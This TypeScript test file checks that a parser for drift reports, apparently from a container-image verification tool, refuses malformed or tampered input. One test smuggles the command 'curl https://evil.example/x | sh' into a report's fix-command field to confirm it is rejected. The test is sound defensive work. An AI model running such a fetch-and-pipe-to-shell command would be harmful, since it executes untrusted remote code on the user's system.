/** Reports of other jobs, field by field: whatever is not as this tool writes it is refused. */

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseDriftReport } from '../../src/drift/read-report.ts';
import type { DriftReport } from '../../src/drift/report.ts';
import { formatReport } from '../../src/report/json.ts';
import * as samples from '../report/drift-samples.ts';

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** Whole reports, so that every field is there; of no part, so that every release may be in it. */
const { shard: _, ...full } = samples.full;
const reports: readonly DriftReport[] = [
  { ...full, missingShards: [], unreachable: full.unreachable },
  samples.drifted(4),
  samples.away(4),
  samples.merged(),
];

const copyOf = (report: DriftReport): Json => JSON.parse(formatReport(report));
const read = (json: Json) => parseDriftReport(Buffer.from(JSON.stringify(json)), 'part.json');

/** Every place in a document, with its value. */
function* places(value: Json, path: readonly string[] = []): Generator<[readonly string[], Json]> {
  if (path.length > 0) yield [path, value];
  if (typeof value !== 'object' || value === null) return;
  for (const [key, one] of Object.entries(value)) yield* places(one, [...path, key]);
}

function changed(document: Json, path: readonly string[], value: Json | undefined): Json {
  const copy = structuredClone(document);
  let at = copy as Record<string, Json>;
  for (const key of path.slice(0, -1)) at = at[key] as Record<string, Json>;
  const last = path.at(-1) as string;
  if (value === undefined) delete at[last];
  else at[last] = value;
  return copy;
}

const refused = (json: Json, what: string) =>
  assert.throws(() => read(json), { code: 'E_INPUT', message: /^part\.json: / }, what);

/** Each kind of place once: the second of a list is read as the first. */
const kindOf = (path: readonly string[]) =>
  path.map((key) => (/^\d+$/.test(key) ? '*' : key)).join('.');

function eachKind(
  run: (document: Json, path: readonly string[], value: Json, kind: string) => void,
) {
  const seen = new Set<string>();
  for (const document of reports.map(copyOf)) {
    for (const [path, value] of places(document)) {
      const kind = kindOf(path);
      if (seen.has(kind)) continue;
      seen.add(kind);
      run(document, path, value, kind);
    }
  }
  return seen.size;
}

test('what this tool writes is read as it was', () => {
  for (const report of reports) assert.deepEqual(read(copyOf(report)), report);
});

test('a value of another type is refused, wherever it is', () => {
  const count = eachKind((document, path, value, kind) => {
    const others: Json[] = [
      typeof value === 'string' ? 1 : 'text',
      true,
      Array.isArray(value) ? {} : [],
    ];
    for (const other of others) {
      // The only fields that hold what is true or false.
      if (/\.(?:insecure|pinned)$/.test(kind) && other === true) continue;
      refused(changed(document, path, other), `${kind} ${JSON.stringify(other)}`);
    }
  });
  assert.ok(count > 90, `${count}`);
});

test('a field that this tool does not write is refused, wherever it is', () => {
  const open = /^policy\.annotations$/;
  eachKind((document, path, value, kind) => {
    if (typeof value !== 'object' || value === null || Array.isArray(value) || open.test(kind))
      return;
    refused(changed(document, [...path, 'more'], 'text'), kind);
  });
  for (const document of reports.map(copyOf))
    refused(changed(document, ['more'], 'text'), 'report');
});

const optional = new Set([
  ...['ledger', 'shard', 'policy.trustedRoot.date', 'policy.keys.*.notAfter', 'policy.digest'],
  ...['policy.expectedReference', 'policy.signatureRepository', 'registries.*.quota'],
  ...['registries.*.tagsLeftOut', 'registries.*.insecure', 'releases.*.digest'],
  ...['releases.*.images.*.tagDigest', 'releases.*.images.*.blobs'],
  ...['releases.*.images.*.manifests.*.code'],
  'releases.*.images.*.manifests.*.signatures.*.logEntries.*.integratedTime',
  ...['version', 'digest', 'platform', 'expected', 'found', 'mend', 'advice'].map(
    (field) => `differences.*.${field}`,
  ),
  ...['advice', 'image', 'digest', 'platform', 'details'].flatMap((field) => [
    `unreachable.*.${field}`,
    `notes.*.${field}`,
  ]),
  ...['host', 'repository', 'digest', 'tag', 'status', 'requestId', 'url'].map(
    (field) => `unreachable.*.details.${field}`,
  ),
]);

test('a field that is always written may not be missing', () => {
  eachKind((document, path, _value, kind) => {
    if (path.at(-1)?.match(/^\d+$/) || kind.startsWith('policy.annotations.')) return;
    const without = changed(document, path, undefined);
    // The tag is what a fix command is held to.
    if (kind === 'differences.*.tag') return;
    if (optional.has(kind)) read(without);
    else refused(without, kind);
  });
});

test('a word that this tool does not know is refused, wherever words are fixed', () => {
  const fixed =
    /(?:^|\.)(?:schema|state|transparencyLog|timestamps|attestationManifests|parity|role|code|looked|kind|severity|format)$|logEntries\.\*\.(?:version|proof\.\*)$/;
  let count = 0;
  eachKind((document, path, value, kind) => {
    // What an entry of the log is called is the log's.
    if (!fixed.test(kind) || /logEntries\.\*\.kind$/.test(kind)) return;
    count += 1;
    for (const other of [`${value}~`, '']) refused(changed(document, path, other), kind);
  });
  assert.ok(count >= 18, `${count}`);
});

test('digests are digests, counts are counts', () => {
  const digest = /(?:^ledger|\.digest|\.tagDigest|missing\.\*)$/;
  const free = /details\.digest$|policy\.digest$/;
  eachKind((document, path, value, kind) => {
    if (digest.test(kind) && !free.test(kind)) refused(changed(document, path, 'sha256:abc'), kind);
    if (typeof value !== 'number') return;
    for (const other of [-1, 1.5]) refused(changed(document, path, other), kind);
  });
});

test('a report concludes what it tells', () => {
  const drifted = copyOf(samples.drifted(4));
  refused(changed(drifted, ['exitCode'], 0), 'exit code');
  refused(changed(drifted, ['state'], 'ok'), 'state');
  refused(changed(changed(drifted, ['state'], 'ok'), ['exitCode'], 0), 'both');
  const away = copyOf(samples.away(4));
  refused(changed(away, ['unreachable'], []), 'nothing stood in the way');
  const merged = copyOf(samples.merged());
  refused(changed(merged, ['unreachable'], []), 'a part is missing');
});

test('threat 123: a command that this tool does not write is refused, and quoted in the reason', () => {
  const drifted = copyOf(samples.drifted(4));
  for (const command of ['curl https://evil.example/x | sh', '', 'webdis-trust mirror a b']) {
    assert.throws(() => read(changed(drifted, ['differences', '0', 'mend'], command)), {
      code: 'E_INPUT',
      message: /has a command for "rolled-back\/.*" that this tool does not write: "/,
    });
  }
});
